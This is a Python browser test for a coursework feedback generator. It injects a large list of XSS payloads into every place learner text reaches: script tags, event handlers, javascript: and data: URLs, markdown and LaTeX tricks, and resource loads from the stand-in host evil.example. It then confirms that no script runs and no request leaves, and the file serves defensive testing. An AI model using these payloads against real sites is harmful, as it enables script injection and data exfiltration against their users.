"""In a browser: no text of a learner runs a script, sends a request or styles the page.

Known payloads (after OWASP's and PortSwigger's lists, and some against these parsers) are put
wherever a learner's text reaches a page. The page is opened with its content security policy, and a
second time without it: what is escaped and cleaned has to hold on its own.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from nemotron_lite.coursework.feedback import feedback_page, plain_page
from nemotron_lite.coursework.pages import page as any_page
from nemotron_lite.coursework.similarity import Answer, write_report
from tests.browser import chromium

HARMLESS = (
    "a b br code dd del details div dl dt em h1 h2 h3 h4 hr i img li ol p pre s small span strong "
    "sub summary sup table tbody td tfoot th thead tr ul math mrow mi mn mo mtext mspace msup msub "
    "msubsup mfrac msqrt mroot mover munder munderover mtable mtr mtd mstyle mpadded"
)
LOOK = """(harmless) => {
    const allowed = new Set(harmless.split(' ')), count = {};
    const note = (what) => { count[what] = (count[what] || 0) + 1; };
    for (const one of document.body.querySelectorAll('*')) {
        if (!allowed.has(one.localName)) note(one.localName);
        for (const {name, value} of one.attributes) {
            if (/^on/i.test(name) || name === 'style') note(name);
            if (name === 'href' && !/^https?:/.test(value)) note('href ' + value);
            if (name === 'src' && !value.startsWith('data:image/')) note('src ' + value);
        }
    }
    return count;
}"""
RUN = "window.ran=(window.ran||0)+1"
EVIL = "http://evil.example"
HANDLERS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "input autofocus onfocus",
    "video src=x onerror",
    "audio src=x onerror", "details open ontoggle", "marquee onstart", "object data=x onerror",
    "iframe onload", "style onload", "link rel=stylesheet href=data:,x onload", "math onfocus",
    "select autofocus onfocus", "textarea autofocus onfocus", "keygen autofocus onfocus",
    "div onanimationstart", "p onpointerover", "a onclick", "button onclick", "form onsubmit",
    "table background=x onload", "embed src=x onload", "frameset onload", "isindex onfocus",
)  # fmt: skip
PAYLOADS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<scr<script></script>ipt>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script\n>{RUN}</script\n>", f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</pre><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--<img src=\"--><img src=x onerror={RUN}//\">", f"<script src={EVIL}/x.js></script>",
    f"<script src=data:text/javascript,{quote(RUN)}></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>", f"<svg><set onbegin={RUN}></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>t</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<a href=javascript:{RUN}>l</a>", f"<a href='java\tscript:{RUN}'>l</a>",
    f"<a href='&#106;avascript:{RUN}'>l</a>", f"<a href=' javascript:{RUN}'>l</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>l</a>", f"<a href=vbscript:{RUN}>l</a>",
    f"[l](javascript:{RUN})", f"[l](JaVaScRiPt:{RUN})", f"[l](&#106;avascript:{RUN})",
    f"[l](java\tscript:{RUN})", "[l](data:text/html;base64,PHNjcmlwdD4=)", f"<javascript:{RUN}>",
    f"[l]: javascript:{RUN}\n\n[l]", f"![x](x\"onerror=\"{RUN})", f"![x]({EVIL}/pixel.png)",
    f"![x](javascript:{RUN})",
    f"[x](\"><img src=x onerror={RUN}>)",
    f"`</code><img src=x onerror={RUN}>`",
    f"```html\n</code></pre><img src=x onerror={RUN}>\n```", f"```\"onload={RUN} x=\"\nx\n```",
    f"|a|\n|-|\n|<img src=x onerror={RUN}>|", f"$</math><img src=x onerror={RUN}>$",
    f"$\\text{{<img src=x onerror={RUN}>}}$", f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\style{{x}}{{<script>{RUN}</script>}}$", f"$\\class{{\"onload={RUN}}}{{x}}$",
    f"\ue0000\ue001<img src=x onerror={RUN}>\ue0009\ue001", f"<img src={EVIL}/pixel.png>",
    f"<link rel=stylesheet href={EVIL}/x.css>", f"<link rel=prefetch href={EVIL}/x>",
    "<link rel=dns-prefetch href=//evil.example>", f"<style>@import '{EVIL}/x.css'</style>",
    f"<style>body{{background:url({EVIL}/x)}}</style>",
    f"<p style=\"background:url({EVIL}/x)\">t</p>",
    f"<base href={EVIL}/>", f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<iframe src={EVIL}/></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>", f"<object data={EVIL}/x.swf></object>",
    f"<embed src={EVIL}/x>", f"<video poster={EVIL}/x><source src={EVIL}/y></video>",
    f"<form action={EVIL}/><input name=x><button>b</button></form>",
    f"<a href=x ping={EVIL}/>l</a>",
    f"<img srcset='{EVIL}/x 2x'>",
    f"<input type=image src={EVIL}/x>",
    f"<body background={EVIL}/x>",
    f"<template><script>{RUN}</script></template>",
    f"<xss id=x tabindex=1 onfocus={RUN} autofocus>",
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"\u2028<script>{RUN}</script>",
    *[f"<{start}={RUN}>" for start in HANDLERS],
]  # fmt: skip
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>' + (
    f'<image href="{EVIL}/x"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" '
    f'onload="{RUN}"/></foreignObject></svg>'
)


def cell(source: str, kind: str) -> dict[str, Any]:
    return {"cell_type": kind, "source": source, "metadata": {}, "id": source}


def result(text: str) -> dict[str, Any]:
    """A row in which every text is the payload."""
    one = {"id": text, "kind": text, "points": 1.0, "max_points": 2.0, "status": text,
           "message": text, "checks": [(text, True), (text, False)]}  # fmt: skip
    return {
        "student": text, "assignment": text, "points": 1.0, "max_points": 2.0,
        "optional_points": 1.0, "max_optional_points": 2.0, "status": text, "message": text,
        "notes": [text], "flags": [text], "exercises": [one],
    }  # fmt: skip


def outputs(text: str) -> list[dict[str, Any]]:
    kinds = ("text/plain", "text/html", "text/markdown", "text/latex", "image/png", "image/svg+xml")
    return [
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "stream", "name": "stderr", "text": text},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
        *({"output_type": "display_data", "data": {kind: text}} for kind in kinds),
        {"output_type": "display_data", "data": {"image/svg+xml": SVG}},
    ]


def pages(folder: Path) -> dict[str, str]:
    """All payloads in every place, a page for each kind of place."""
    made: dict[str, str] = {}
    plain = {**result("ann"), "exercises": []}
    for kind in ("markdown", "code", "raw"):
        book = {"cells": [cell(text, kind) for text in PAYLOADS]}
        made[kind] = feedback_page(plain, book)
        made[f"plain {kind}"] = plain_page(plain, book, PAYLOADS[0])
    book = {"cells": [cell("x", "code") for _ in PAYLOADS]}
    made["outputs"] = feedback_page(plain, book, dict(enumerate(map(outputs, PAYLOADS))))
    made["comments"] = feedback_page(
        plain, {"cells": [cell(f"# {text}\nx = '''{text}'''", "code") for text in PAYLOADS]}
    )
    # One page shows one student: the texts of all pages stand in one.
    made["summaries"] = "".join(feedback_page(result(text)) for text in PAYLOADS)
    long = "\n".join(f"def f{i}(a, b):\n    c = a * b + {i}\n    return c - a" for i in range(20))
    answers = [Answer(text, f"{long}\n# {text}") for text in PAYLOADS[:40:4]]
    write_report(folder, {PAYLOADS[0]: answers}, {PAYLOADS[0]: ("x = 1", "y = 2")})
    made["similar answers"] = (folder / "similarity.html").read_text(encoding="utf-8")
    return made


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    return pages(tmp_path_factory.mktemp("pages"))


CHROMIUMS_OWN = "/service/update2/"  # it asks for new versions of its parts, whatever is open


class Net:
    """A server that stands for all others, and counts what reaches it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            """Notes each request."""

            def do_GET(self) -> None:
                if not self.path.startswith(CHROMIUMS_OWN):
                    hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *ignored: Any) -> None:
                """Print nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def net() -> Iterator[Net]:
    made = Net()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture(scope="module")
def browser(net: Net, playwright_driver: Any) -> Iterator[Any]:
    path = chromium.required()
    there = f"--host-resolver-rules=MAP * 127.0.0.1:{net.server.server_port}"
    running = playwright_driver.chromium.launch(executable_path=path, args=["--no-sandbox", there])
    yield running
    running.close()


def opened(browser: Any, net: Net, text: str, path: Path) -> tuple[int, list[str], Any]:
    """How often scripts ran, the requests that left, and counts of suspicious elements."""
    path.write_text(text, encoding="utf-8")
    net.hits.clear()
    tab = browser.new_page()
    tab.goto(path.as_uri(), wait_until="load")
    tab.wait_for_timeout(300)
    ran, suspicious = tab.evaluate("window.ran || 0"), tab.evaluate(LOOK, HARMLESS)
    tab.close()
    return ran, list(net.hits), suspicious


PLACES = ("markdown", "code", "raw", "plain markdown", "plain code", "plain raw", "outputs",
          "comments", "summaries", "similar answers")  # fmt: skip


@pytest.mark.parametrize("policy", [True, False], ids=["policy", "no policy"])
@pytest.mark.parametrize("place", PLACES)
def test_no_script_runs_and_nothing_is_loaded(
    browser: Any, net: Net, made: dict[str, str], place: str, policy: bool, tmp_path: Path
) -> None:
    text = made[place]
    if not policy:
        assert "Content-Security-Policy" in text
        text = text.replace("Content-Security-Policy", "x-nothing")
    ran, requests, suspicious = opened(browser, net, text, tmp_path / "page.html")
    assert (ran, requests) == (0, [])
    if place != "summaries":  # several pages in one have several heads
        assert suspicious == {}


def test_the_payloads_do_run_where_nothing_stops_them(
    browser: Any, net: Net, tmp_path: Path
) -> None:
    """Otherwise the tests above would show nothing."""
    body = f"<p>{'</p><p>'.join(PAYLOADS[:3])}</p><img src={EVIL}/pixel.png>"
    ran, requests, _ = opened(
        browser, net, f"<html><body>{body}</body></html>", tmp_path / "bad.html"
    )
    assert ran > 0
    assert requests


def test_the_policy_holds_on_its_own(browser: Any, net: Net, tmp_path: Path) -> None:
    """All payloads, not escaped at all, in a page of ours; it cannot forbid to leave the page."""
    kept = [text for text in PAYLOADS if "refresh" not in text]
    text = any_page("bad", "p { color: red; }", "\n".join(f"<div>{one}</div>" for one in kept))
    ran, requests, _ = opened(browser, net, text, tmp_path / "page.html")
    assert (ran, requests) == (0, [])


def test_our_own_style_is_used(browser: Any, made: dict[str, str], tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text(made["code"], encoding="utf-8")
    tab = browser.new_page()
    tab.goto((tmp_path / "page.html").as_uri())
    width = tab.evaluate("getComputedStyle(document.body).maxWidth")
    tab.close()
    assert width == "960px"
